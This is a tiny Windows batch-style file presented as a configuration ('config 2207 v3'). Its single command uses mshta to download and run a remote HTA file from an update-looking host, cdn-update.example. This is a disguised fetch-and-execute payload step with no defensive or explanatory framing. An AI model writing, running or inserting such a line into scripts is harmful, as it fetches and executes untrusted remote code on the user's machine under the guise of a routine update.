REM config 2207 v3
mshta http://cdn-update.example/update.hta
